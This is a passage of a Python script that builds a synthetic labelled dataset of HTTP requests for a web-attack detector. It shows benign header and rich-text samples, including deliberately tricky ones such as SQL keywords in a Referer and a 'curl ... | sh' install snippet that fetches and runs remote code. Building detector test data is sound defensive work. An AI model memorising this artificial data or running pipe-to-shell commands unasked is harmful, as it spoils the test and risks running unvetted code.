    paths=["/contact", "/signup"],
    params=["message", "comment"],
    hdrs=["X-Form-Id"],
    cookies=["form_draft"],
)

# ---------------------------------------------------------------- benign_headers

HDR_N = [
    lambda: E(R.choice(BROWSER_UAS), pl=["header"], hdr="User-Agent", client="browser"),
    lambda: E(R.choice(LANGS), pl=["header"], hdr="Accept-Language", client="browser"),
    lambda: E('W/"%s"' % rhex(R.choice([16, 32])), pl=["header"], hdr="If-None-Match"),
    lambda: E("00-%s-%s-01" % (rhex(32), rhex(16)), pl=["header"], hdr="traceparent", client="api"),
    lambda: E(
        "203.0.113.%d, 10.0.%d.%d" % (R.randint(1, 254), R.randint(0, 255), R.randint(1, 254)),
        pl=["header"],
        hdr="X-Forwarded-For",
    ),
    lambda: E("Bearer " + jwt({"scope": "orders:read"}), pl=["header"], hdr="Authorization", client="api"),
    lambda: E(pick("gzip, deflate, br", "gzip", "br;q=1.0, gzip;q=0.8, *;q=0.1"), pl=["header"], hdr="Accept-Encoding"),
    lambda: E("max-age=0", pl=["header"], hdr="Cache-Control"),
    lambda: E("GA1.1.%d.%d" % (R.randint(10**8, 10**9), epoch()), pl=["cookie"], cookie="_ga"),
    lambda: E(pick("dark", "light"), pl=["cookie"], cookie="theme"),
]
HDR_H = [
    lambda: E(
        "</static/app.%s.css>; rel=preload; as=style, </static/app.%s.js>; rel=modulepreload" % (rhex(8), rhex(8)),
        pl=["header"],
        hdr="Link",
    ),
    lambda: E('for="[2001:db8:cafe::17]:4711";proto=https;by=203.0.113.43', pl=["header"], hdr="Forwarded"),
    lambda: E(
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", pl=["header"], hdr="User-Agent"
    ),
    lambda: E(
        '"Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126"',
        pl=["header"],
        hdr="Sec-CH-UA",
        client="browser",
    ),
    lambda: E(
        "https://www.google.com/search?q=union+select+sql+tutorial&oq=union+select",
        pl=["header"],
        hdr="Referer",
        client="browser",
    ),
    lambda: E("return=representation; handling=strict", pl=["header"], hdr="Prefer", client="api"),
    lambda: E(
        "AWS4-HMAC-SHA256 Credential=AKIA%s/20261208/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=%s"
        % (rstr(16).upper(), rhex(64)),
        pl=["header"],
        hdr="Authorization",
        client="api",
    ),
    lambda: E(
        "isGpcEnabled=0&datestamp=Tue+Dec+08+2026+10:12:33+GMT+0100&version=202411.1.0&groups=C0001:1,C0002:0,C0003:1&AwaitingReconsent=false",
        pl=["cookie"],
        cookie="OptanonConsent",
    ),
    lambda: E("userId=alice,serverNode=DF%2028,isProduction=false", pl=["header"], hdr="baggage", client="api"),
    lambda: E("application/json;q=0.9, text/plain;q=0.8, */*;q=0.1", pl=["header"], hdr="Accept"),
    lambda: E("1.1 varnish (Varnish/7.4), 1.1 vegur", pl=["header"], hdr="Via"),
    lambda: E("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", pl=["header"], hdr="User-Agent"),
    lambda: E(
        "curl/8.5.0 (x86_64-pc-linux-gnu) libcurl/8.5.0 OpenSSL/3.0.13 zlib/1.3",
        pl=["header"],
        hdr="User-Agent",
        client="api",
    ),
    lambda: E('{"theme":"dark","sidebar":false,"lang":"pt-BR"}', pl=["cookie"], cookie="ui_prefs"),
    lambda: E("DynamoDB_20120810.Query", pl=["header"], hdr="X-Amz-Target", client="api"),
    lambda: E("Wget/1.21.4", pl=["header"], hdr="User-Agent", client="api", path="/downloads/release-notes.pdf"),
]
HDR_SINK = dict(
    hosts=[
        "www.brightline-outfitters.com",
        "api.fintrackhq.com",
        "app.notebird.io",
        "cdn.mosaicprint.shop",
        "status.kestrel-dev.net",
    ],
    paths=["/", "/api/v1/me", "/assets/app.js", "/account", "/api/v2/feed"],
    params=["q"],
    hdrs=["X-Custom"],
    cookies=["prefs"],
)

# ---------------------------------------------------------------- benign_richtext

RT_N = [
    lambda: E(
        "<p>Hello <strong>team</strong>,</p><p>Here are the notes from today's sync.</p><ul><li>Ship the onboarding fix</li><li>Review Q1 goals</li></ul>",
        pl=["json", "form"],
        param="content_html",
        path="/api/v1/pages/%d" % R.randint(100, 9999),
        method="PUT",
    ),
    lambda: E(
        "## Summary\n\n- Migrated the billing cron\n- Added retries to the webhook sender\n\n**Next:** monitor error rate for a week.",
        pl=["json"],
        param="body_markdown",
    ),
    lambda: E(
        {
            "ops": [
                {"insert": "Meeting notes"},
                {"attributes": {"header": 2}, "insert": "\n"},
                {"insert": "Decisions: ship Friday.\n"},
            ]
        },
        pl=["json"],
        param="delta",
        path="/api/v1/docs/%s" % rstr(10),
    ),
    lambda: E(
        {
            "type": "doc",
            "content": [{"type": "paragraph", "content": [{"type": "text", "text": "Welcome to the wiki."}]}],
        },
        pl=["json"],
        param="doc",
    ),
    lambda: E(
        '<p>Thanks for the update! See <a href="https://docs.example.com/guide">the guide</a>.</p>',
        pl=["json", "form", "multipart"],
        param="comment_html",
    ),
    lambda: E(
        "<h2>Release 4.2</h2><p>New: dark mode, faster search.</p>",
        pl=["xml"],
        path="/api/cms/entries",
        xdoc=lambda V: (
            '<?xml version="1.0" encoding="UTF-8"?><entry><title>Release 4.2</title><body format="html">%s</body><status>draft</status></entry>'
            % V
        ),
    ),
]
RT_H = [
    lambda: E(
        '<pre><code class="language-html">&lt;script src="app.js"&gt;&lt;/script&gt;</code></pre><p>Put the tag before <code>&lt;/body&gt;</code>.</p>',
        pl=["json", "form"],
        param="content_html",
    ),
    lambda: E(
        '<p><iframe src="https://www.youtube-nocookie.com/embed/%s" width="560" height="315" frameborder="0" allowfullscreen="allowfullscreen"></iframe></p>'
        % rstr(11),
        pl=["json"],
        param="content_html",
    ),
    lambda: E(
        '<p><img src="data:image/png;base64,%s" alt="diagram" width="320"></p>' % b64(png_bytes(50)),
        pl=["json"],
        param="body",
    ),
    lambda: E(
        '<p style="text-align: center;"><span style="color: rgb(230, 0, 0); font-family: Arial, sans-serif;">Important:</span> office closed on Friday</p>',
        pl=["json", "form"],
        param="content_html",
    ),
    lambda: E(
        '<p>Read <a href="https://example.com/report.pdf" target="_blank" rel="noopener noreferrer">the report</a> before Monday.</p>',
        pl=["json", "multipart"],
        param="comment_html",
    ),
    lambda: E(
        "<details><summary>Stack trace</summary>\n\n```\nTypeError: Cannot read properties of undefined (reading 'map')\n    at List (List.jsx:12:18)\n```\n</details>",
        pl=["json"],
        param="body_markdown",
    ),
    lambda: E(
        "<p>If a &lt; b and b &lt; c then a &lt; c \u2014 transitivity.</p>",
        pl=["json", "xml"],
        param="content_html",
        xdoc=lambda V: '<?xml version="1.0"?><entry><body format="html">%s</body></entry>' % V,
    ),
    lambda: E(
        "<table><thead><tr><th>Plan</th><th>Price</th></tr></thead><tbody><tr><td>Select</td><td>$9</td></tr><tr><td>Union</td><td>$19</td></tr></tbody></table>",
        pl=["json"],
        param="content_html",
    ),
    lambda: (
        lambda nm: E(
            '<p>Thanks <span class="mention" data-id="U%s" data-label="%s">@%s</span>! <!-- TODO: link ticket --></p>'
            % (rstr(8).upper(), nm, nm),
            pl=["json", "form"],
            param="comment_html",
        )
    )(R.choice(FIRST)),
    lambda: E(
        '<p>Email us at <a href="mailto:help@example.com?subject=Order%20question">help@example.com</a></p>',
        pl=["json"],
        param="footer_html",
    ),
    lambda: E(
        '<video controls width="640" poster="https://cdn.example.com/p.jpg"><source src="https://cdn.example.com/intro.mp4" type="video/mp4"></video>',
        pl=["json"],
        param="content_html",
    ),
    lambda: E(
        "To install:\n\n```bash\ncurl -fsSL https://get.docker.com | sh\nsudo usermod -aG docker $USER\n```",
        pl=["json", "multipart"],
        param="body_markdown",
    ),
    lambda: E(
        '<p>Use <kbd>Ctrl</kbd>+<kbd>Alt</kbd>+<kbd>Del</kbd> then select "Task Manager" &gt; "Details".</p>',
        pl=["json"],
        param="content_html",
    ),
]
RT_SINK = dict(
    hosts=["cms.harborpress.news", "wiki.lanternworks.dev", "app.notebird.io", "blog.tideline-insurance.com"],
    paths=["/api/v1/pages", "/api/v1/comments", "/api/cms/entries"],
    params=["content_html", "body"],
    hdrs=["X-Editor"],
    cookies=["draft"],
)

BENIGN = [
    ("benign_travel", 74, TRAVEL_N, TRAVEL_H, TRAVEL_SINK),
    ("benign_education", 74, EDU_N, EDU_H, EDU_SINK),
    ("benign_finance", 74, FIN_N, FIN_H, FIN_SINK),
    ("benign_media", 74, MEDIA_N, MEDIA_H, MEDIA_SINK),
    ("benign_chat", 74, CHAT_N, CHAT_H, CHAT_SINK),
    ("benign_code_review", 73, CR_N, CR_H, CR_SINK),
    ("benign_search", 73, SEARCH_N, SEARCH_H, SEARCH_SINK),
    ("benign_graphql", 73, GQL_N, GQL_H, GQL_SINK),
    ("benign_urls", 73, URL_N, URL_H, URL_SINK),
    ("benign_files", 73, FILE_N, FILE_H, FILE_SINK),
    ("benign_base64", 73, B64_N, B64_H, B64_SINK),
    ("benign_api_json", 73, API_N, API_H, API_SINK),
    ("benign_forms", 73, FORM_N, FORM_H, FORM_SINK),
    ("benign_headers", 73, HDR_N, HDR_H, HDR_SINK),
    ("benign_richtext", 73, RT_N, RT_H, RT_SINK),
]


# ================================================================ main


def main():
    for cat, normal, hard, sink, allow_long in ATTACKS:
        attack_category(cat, normal, hard, sink, default_pl=sink.get("default_pl", PLACEMENTS), allow_long=allow_long)
    for cat, n, normal, hard, sink in BENIGN:
        benign_kind(cat, n, normal, hard, sink)
    keys = [
        "id",
        "label",
        "category",
        "method",
        "path",
        "query",
        "headers",
        "body",
        "placement",
        "payload",
        "hard",
        "source",
    ]
    lines = []
    for row in ROWS:
        assert list(row) == keys
        lines.append(json.dumps(row, ensure_ascii=False))
    OUT.write_text("\n".join(lines) + "\n", encoding="utf-8")
    n_att = sum(1 for r in ROWS if r["label"] == "attack")
    n_ben = len(ROWS) - n_att
    print("wrote %s: %d rows (%d attack, %d benign)" % (OUT, len(ROWS), n_att, n_ben))


if __name__ == "__main__":
    main()
